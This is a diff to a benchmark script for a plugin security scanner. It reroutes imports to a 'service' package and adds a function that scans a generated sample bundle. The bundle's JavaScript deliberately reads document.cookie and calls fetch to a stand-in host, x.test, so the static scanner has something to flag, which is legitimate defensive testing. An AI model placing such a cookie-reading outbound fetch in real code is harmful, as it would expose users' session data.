@@ -25,8 +25,8 @@ from collections.abc import Iterator
 from contextlib import contextmanager
 from pathlib import Path
 
-from scanner.config import PROJECT_ROOT, Settings
-from scanner.webhooks import new_secret, signed_headers
+from scanner.config import Settings
+from service.webhooks import new_secret, signed_headers
 
 KB = 1024
 SCAN_DEADLINE = 180
@@ -50,7 +50,7 @@ class BenchError(RuntimeError):
 @contextmanager
 def _processes(env: dict[str, str], workers: bool, logs: Path) -> Iterator[str]:
     """The same processes ``gatehouse serve`` starts (the workers only when asked)."""
-    from scanner.service_cli import web_command, worker_command
+    from service.processes import web_command, worker_command
 
     port = _free_port()
     cmds = {"web": web_command(f"127.0.0.1:{port}", 2, Settings().web_threads)}
@@ -62,7 +62,7 @@ def _processes(env: dict[str, str], workers: bool, logs: Path) -> Iterator[str]:
         with (logs / f"{name}.log").open("ab") as log:
             procs.append(
                 subprocess.Popen(
-                    cmd, env=env, cwd=PROJECT_ROOT, stdout=log, stderr=log, start_new_session=True
+                    cmd, env=env, cwd=logs, stdout=log, stderr=log, start_new_session=True
                 )
             )
     try:
@@ -187,15 +187,46 @@ def bench_intake(env: dict[str, str], logs: Path, requests_total: int, threads: 
     )
 
 
+def _sample_report(scratch: Path) -> dict[str, object]:
+    """A real report to fill the table with: the static stages over a 100 KB bundle."""
+    from scanner.bench import synthetic_minified_js
+    from scanner.pipeline import build_stages, scan_bundle
+    from scanner.policy import Policy
+    from scanner.reports.json import report_dict
+    from scanner.stages.js_static import JsStaticStage
+    from scanner.stages.manifest import ManifestStage
+
+    settings = Settings(work_root=scratch)
+    scratch.mkdir(parents=True, exist_ok=True)
+    bundle = scratch / "sample.zip"
+    js = b"var Bench={mount:function(c){document.cookie;fetch('https://x.test/'+c)}};\n"
+    bundle.write_bytes(
+        _zip(
+            {
+                "plugin.json": _manifest("bench", "1.0.0"),
+                "dist/bundle.js": js + synthetic_minified_js(100 * KB),
+            }
+        )
+    )
+    stages, unavailable = build_stages(
+        settings, [ManifestStage.from_settings, JsStaticStage.from_settings]
+    )
+    result = scan_bundle(
+        bundle, settings, stages, Policy.load(settings.policy_path), unavailable=unavailable
+    )
+    return report_dict(result)
+
+
 def bench_get(env: dict[str, str], logs: Path, scans: int, lookups: int) -> None:
     from sqlalchemy import text
 
-    from scanner.db import make_engine, migrate, session_scope
-    from scanner.tokens import create_token
+    from scanner.db import make_engine, session_scope
+    from service.db import migrate
+    from service.tokens import create_token
 
     engine = make_engine(env["GATEHOUSE_DATABASE_URL"])
     migrate(engine)
-    report = json.loads((PROJECT_ROOT / "docs" / "sample-report.json").read_text())
+    report = _sample_report(Path(env["GATEHOUSE_WORK_ROOT"]))
     start = time.perf_counter()
     with session_scope(engine) as s:
         _, token = create_token(s, "bench", {"read"})
@@ -238,8 +269,9 @@ def bench_get(env: dict[str, str], logs: Path, scans: int, lookups: int) -> None
 
 def bench_preflight(env: dict[str, str], logs: Path, runs: int) -> None:
     from scanner.bench import synthetic_minified_js
-    from scanner.db import make_engine, migrate, session_scope
-    from scanner.tokens import create_token
+    from scanner.db import make_engine, session_scope
+    from service.db import migrate
+    from service.tokens import create_token
 
     engine = make_engine(env["GATEHOUSE_DATABASE_URL"])
     migrate(engine)
@@ -302,7 +334,6 @@ def run(
             "GATEHOUSE_CLAMD_SOCKET": str(clamd_socket),
             "GATEHOUSE_WEBHOOK_SECRETS": new_secret(),
             "GATEHOUSE_PUBLISHER_DAILY_LIMIT": "1000000",
-            "PYTHONPATH": str(PROJECT_ROOT),
         }
     )
     logs = scratch / "logs"
@@ -312,7 +343,8 @@ def run(
         f"database {database_url.split('@')[-1]}, broker {broker_url.split('@')[-1]};"
         f" {os.cpu_count()} cores"
     )
-    from scanner.db import make_engine, migrate
+    from scanner.db import make_engine
+    from service.db import migrate
 
     engine = make_engine(database_url)
     migrate(engine)
